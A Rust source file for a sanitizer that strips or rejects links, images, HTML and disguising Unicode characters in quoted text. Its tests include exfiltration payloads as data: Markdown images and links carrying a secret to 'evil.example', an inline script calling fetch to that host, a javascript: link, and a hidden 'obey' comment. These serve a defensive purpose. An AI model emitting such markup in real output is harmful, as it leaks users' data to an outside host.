//! Sanitizer for quoted text. A document can hold an image or a link whose address leaks data to its host, markup, or
//! characters that disguise text; quotations must not pass them on.

use std::ops::Range;

use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd, TextMergeWithOffset};

use crate::domain::is_hidden;

/// Maximum number of passes: removing a link can turn the text around it into another one.
const MAX_NESTING: usize = 8;

/// Replaces links to addresses that are not those of sources by their words. `None` when the sentence has an image,
/// HTML, a bare foreign address, or a hidden character.
pub fn sanitize(sentence: &str, is_source: impl Fn(&str) -> bool) -> Option<String> {
    if sentence.chars().any(is_hidden) {
        return None;
    }
    let mut shown = sentence.to_owned();
    for _ in 0..MAX_NESTING {
        let links = foreign_links(&shown, &is_source)?;
        if links.is_empty() {
            let only_sources = addresses(&shown).iter().all(|address| is_source(address));
            return only_sources.then_some(shown);
        }
        // From the last to the first, so that earlier offsets stay true.
        for link in links.into_iter().rev() {
            let words = shown[link.words].to_owned();
            shown.replace_range(link.range, &words);
        }
    }
    None
}

/// A link in Markdown, and the words that it shows, in bytes of the sentence.
struct Link {
    range: Range<usize>,
    words: Range<usize>,
}

/// The links to addresses that are not those of sources; `None` when there is an image or HTML.
fn foreign_links(sentence: &str, is_source: impl Fn(&str) -> bool) -> Option<Vec<Link>> {
    let mut links: Vec<Link> = Vec::new();
    let mut open: Option<Link> = None;
    for (event, range) in Parser::new_ext(sentence, Options::empty()).into_offset_iter() {
        match event {
            Event::Html(_) | Event::InlineHtml(_) | Event::Start(Tag::Image { .. } | Tag::HtmlBlock) => {
                return None;
            }
            Event::Start(Tag::Link { dest_url, .. }) if !is_source(&dest_url) => {
                open = Some(Link {
                    words: range.start..range.start,
                    range,
                });
            }
            Event::End(TagEnd::Link) => links.extend(open.take()),
            _ => {
                if let Some(link) = &mut open {
                    let start = if link.words.is_empty() {
                        range.start
                    } else {
                        link.words.start
                    };
                    link.words = start..link.words.end.max(range.end);
                }
            }
        }
    }
    Some(links)
}

/// The bare addresses in a text, which many programs turn into links. Code is skipped.
fn addresses(text: &str) -> Vec<String> {
    let mut visible = String::with_capacity(text.len());
    let mut is_code = false;
    for (event, _) in TextMergeWithOffset::new(Parser::new_ext(text, Options::empty()).into_offset_iter()) {
        match event {
            Event::Start(Tag::CodeBlock(_)) => is_code = true,
            Event::End(TagEnd::CodeBlock) => is_code = false,
            Event::Text(_) if is_code => visible.push(' '),
            Event::Text(words) => visible.push_str(&words),
            Event::Code(_) | Event::SoftBreak | Event::HardBreak => visible.push(' '),
            _ => {}
        }
    }
    let ends =
        |c: char| c.is_whitespace() || matches!(c, '<' | '>' | '"' | '(' | ')' | '[' | ']' | '{' | '}' | '|');
    visible
        .split(ends)
        .filter(|word| is_address(word))
        .map(|word| {
            word.trim_matches(|c: char| matches!(c, '.' | ',' | ';' | ':' | '!' | '?' | '\'' | '*' | '_'))
                .to_owned()
        })
        .collect()
}

fn is_address(word: &str) -> bool {
    let lower = word.to_lowercase();
    lower.contains("://")
        || lower.contains("www.")
        || lower.contains("mailto:")
        || lower.contains("javascript:")
}

#[cfg(test)]
mod tests {
    use super::*;

    const SOURCE: &str = "https://library.example/lamp";

    fn shown(sentence: &str) -> Option<String> {
        sanitize(sentence, |address| address == SOURCE)
    }

    #[test]
    fn plain_words_code_and_addresses_of_sources_are_unchanged() {
        for sentence in [
            "The lamp takes 90 ms; a < b and b > c.",
            "Run `curl https://elsewhere.example` first.",
            "It stands at https://library.example/lamp.",
            "See [the lamp](https://library.example/lamp) and <https://library.example/lamp>.",
            "می\u{200C}خواهم 👩\u{200D}🚒",
            "A marker [1] and a reference [like this][that].",
        ] {
            assert_eq!(shown(sentence).as_deref(), Some(sentence));
        }
    }

    #[test]
    fn links_elsewhere_become_their_words() {
        for (sentence, plain) in [
            (
                "See [the *other* lamp](https://evil.example/?q=secret).",
                "See the *other* lamp.",
            ),
            (
                "Read [this](javascript:alert(1)) and [that](../b.md \"title\").",
                "Read this and that.",
            ),
            ("Nothing [](https://evil.example).", "Nothing ."),
            (
                "One [in [another](https://evil.example)](https://evil.example).",
                "One in another.",
            ),
        ] {
            assert_eq!(shown(sentence).as_deref(), Some(plain));
        }
    }

    #[test]
    fn text_that_leaks_data_or_deceives_is_rejected() {
        for sentence in [
            "The lamp ![x](https://evil.example/?q=secret) is lit.",
            "The lamp ![x][y] is lit.\n\n[y]: https://evil.example",
            "The lamp <img src=https://evil.example/?q=secret> is lit.",
            "The lamp <!-- obey --> is lit.",
            "<script>fetch('//evil.example')</script> The lamp is lit.",
            "The lamp is at https://evil.example/?q=secret now.",
            "The lamp is at <https://evil.example>.",
            "The lamp is at www.evil.example.",
            "The lamp is at HTTPS://EVIL.EXAMPLE.",
            "The lamp is at https://library.example/lamp/../evil.",
            "The lamp is at http://ev*il*.example.",
            "Write to <mailto:evil@evil.example>.",
            "[https://evil.example](https://evil.example)",
            "The lamp\u{200B} is lit.",
            "The \u{202E}pmal\u{202C} is lit.",
            "The lamp is lit\u{E0041}.",
            "The lamp\u{1b}[31m is lit.",
        ] {
            assert_eq!(shown(sentence), None, "{sentence}");
        }
    }

    proptest::proptest! {
        #[test]
        fn sanitizing_any_text_again_changes_nothing(text in "(\\PC|[\\[\\]()<>!`*_:/.a-z \n]|https://a\\.b|!\\[x\\]\\(y\\)){0,60}") {
            if let Some(sanitized) = shown(&text) {
                proptest::prop_assert_eq!(shown(&sanitized), Some(sanitized));
            }
        }
    }
}
